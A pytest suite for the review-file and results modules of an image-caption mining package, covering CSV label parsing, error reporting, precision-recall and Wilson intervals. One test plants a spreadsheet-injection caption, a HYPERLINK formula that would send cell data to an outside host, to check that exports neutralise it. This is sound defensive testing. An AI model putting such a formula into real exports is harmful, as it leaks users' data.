from dataclasses import replace

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from lavis_mafa.core.pairs import CONNECTION
from lavis_mafa.mining import results
from lavis_mafa.mining import review as review_file
from lavis_mafa.mining.review import (
    Labelled,
    has_labels,
    precision_recall,
    read_labels,
    read_review,
    write_review,
)


def review(mined, corpus, path, **labels):
    frame = results.candidate_rows(corpus, mined, np.arange(len(mined.p_K))).to_pandas()
    write_review(path, frame.assign(weight=2.0))
    if labels:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        frame["label"] = [labels.get(f"row{n}", "") for n in range(len(frame))]
        frame.iloc[::-1].to_csv(path, index=False)  # people sort
    return path


def test_labels_come_back_to_their_pairs(mined, corpus, tmp_path):
    assert not has_labels(tmp_path / "none.csv")
    assert not has_labels(review(mined, corpus, tmp_path / "fresh.csv"))
    path = review(mined, corpus, tmp_path / "review.csv", row2="1", row5="0", row0="1")
    assert has_labels(path)
    labelled = read_review(path, corpus, mined.candidates)
    found = dict(zip(labelled.at_L.tolist(), labelled.true_L.tolist(), strict=True))
    assert found == {0: True, 2: True, 5: False}
    assert labelled.weight_L.tolist() == [2.0] * 3 and labelled.outside == 0


def test_the_labelled_rows_of_a_stratum_stand_for_the_others(mined, corpus, tmp_path):
    path = review(mined, corpus, tmp_path / "review.csv", row0="1", row1="0", row2="1")
    frame = pd.read_csv(path, dtype=str, keep_default_na=False).iloc[::-1]  # as it was written
    above = ["0.5" if n < 4 else "0.25" for n in range(len(frame))]
    frame.assign(above=above).to_csv(path, index=False)
    labelled = read_review(path, corpus, mined.candidates)
    assert labelled.at_L.tolist() == [0, 1, 2]
    assert labelled.weight_L.tolist() == pytest.approx([2 * 4 / 3] * 3)  # four rows of weight 2, three labelled
    assert labelled.above_L.tolist() == [0.5] * 3


def test_a_table_of_image_caption_and_label_will_do(mined, corpus, tmp_path):
    record, text = int(mined.candidates.record_K[4]), int(mined.candidates.text_K[4])
    caption = corpus.texts(text, text + 1)[0].upper()
    lines = [
        "image,caption,label",
        f"./{corpus.table.image(record)},{caption},1",
        f"{corpus.table.image(record)},unheard of,1",
    ]
    (tmp_path / "labels.csv").write_text("\n".join(lines))
    labelled = read_review(tmp_path / "labels.csv", corpus, mined.candidates)
    assert (labelled.at_L.tolist(), labelled.weight_L.tolist(), labelled.outside) == ([4], [1.0], 1)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("image,caption\na.jpg,x", "lacks the column label"),
        ("image,caption,label\na.jpg,x,1\na.jpg,y,yes", "line 3: label is 'yes'"),
        ("image,caption,label\nz.jpg,x,1", "line 2: image is 'z.jpg'"),
        (
            "image,caption,label\na.jpg,a cat sits,1\nb.jpg,a red car,0\na.jpg,A cat sits,0",
            "lines 2 and 4 label the same pair differently",
        ),
    ],
)
def test_a_review_that_cannot_be_read_is_reported(mined, corpus, tmp_path, text, message):
    (tmp_path / "review.csv").write_text(text)
    with pytest.raises(ValueError, match=message):
        read_labels(tmp_path / "review.csv", corpus)


def test_precision_and_recall_at_every_threshold_by_hand():
    labelled = Labelled(np.arange(4), np.array([True, False, True, True]), np.array([1.0, 1.0, 2.0, 4.0]))
    frame = precision_recall(np.array([0.9, 0.9, 0.6, 0.2], np.float32), labelled)
    assert frame["threshold"].tolist() == pytest.approx([0.9, 0.6, 0.2])
    assert frame["precision"].tolist() == pytest.approx([1 / 2, 3 / 4, 7 / 8])
    assert frame["recall"].tolist() == pytest.approx([1 / 7, 3 / 7, 1.0])


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "is not a CSV"),
        (b'image,caption,label\n"a.jpg,x', "is not a CSV"),
        (b"image,caption,label\n\xff\xfe,x,1\n", "is not a CSV file in UTF-8"),
        (b"image,caption,label,weight\na.jpg,x,1,heavy\n", "line 2: weight is 'heavy'"),
        (b"image,caption,label,weight\na.jpg,x,1,-1\n", "line 2: weight is '-1'"),
        (b"image,caption,label,above\na.jpg,x,1,nan\n", "line 2: above is 'nan'"),
    ],
)
def test_a_file_that_is_no_review_is_reported(mined, corpus, tmp_path, content, expected):
    (tmp_path / "review.csv").write_bytes(content)
    with pytest.raises(ValueError, match=expected) as error:
        read_review(tmp_path / "review.csv", corpus, mined.candidates)
    assert str(tmp_path / "review.csv") in str(error.value)


def test_labels_where_there_are_no_candidates_are_outside(mined, corpus, tmp_path):
    path = review(mined, corpus, tmp_path / "review.csv", row0="1")
    pairs = mined.candidates
    none = replace(pairs, **{name: getattr(pairs, name)[:0] for name in vars(pairs)})
    labelled = read_review(path, corpus, none)
    assert len(labelled.at_L) == 0 and labelled.outside == 1


@pytest.mark.parametrize("name", ["review", "suspects"])
def test_a_spreadsheet_runs_no_caption(mined, corpus, tmp_path, monkeypatch, name):
    formula = '=HYPERLINK("http://host?t="&A1)'
    pair = {"image": ["-1.jpg"], "caption": [formula], "p": [-0.5]}
    monkeypatch.setattr(type(corpus), "rows", lambda self, *args, **more: pa.table(pair))
    if name == "review":
        write_review(tmp_path / "x.csv", pd.DataFrame(pair))
        assert review_file._read(tmp_path / "x.csv")["caption"].tolist() == [formula]
    else:
        results.write_suspects(tmp_path / "x.csv", corpus, mined, np.arange(1))
    written = pd.read_csv(tmp_path / "x.csv", dtype=str)
    assert written["caption"].tolist() == ["'" + formula] and written["image"].tolist() == ["'-1.jpg"]
    assert written["p"].tolist() == ["-0.5"]


def test_the_interval_of_a_precision_is_wilsons_by_its_effective_number():
    true = np.array([True] * 5 + [False] * 2)
    assert results.wilson(true, np.ones(7)) == pytest.approx((0.359, 0.918), abs=1e-3)  # of 5 of 7
    assert results.wilson(true, np.full(7, 9.0)) == pytest.approx(results.wilson(true, np.ones(7)))
    uneven = results.wilson(np.array([True, False]), np.array([3.0, 1.0]))  # 16 / 10 labels
    assert uneven == pytest.approx((0.169, 0.978), abs=1e-3) and results.wilson(true[:0], np.ones(0)) is None


def test_a_precision_comes_with_its_number_interval_and_base_rate(mined):
    true = np.arange(len(mined.p_K)) % 2 == 0
    figures = results.quality(mined, Labelled(np.arange(len(true)), true, np.ones(len(true))))
    connected = mined.verdict_K == CONNECTION
    assert figures["connections"] == connected.sum() and figures["base_rate"] == pytest.approx(true.mean())
    low, high = figures["precision_95"]
    assert low < figures["precision"] == true[connected].mean() < high
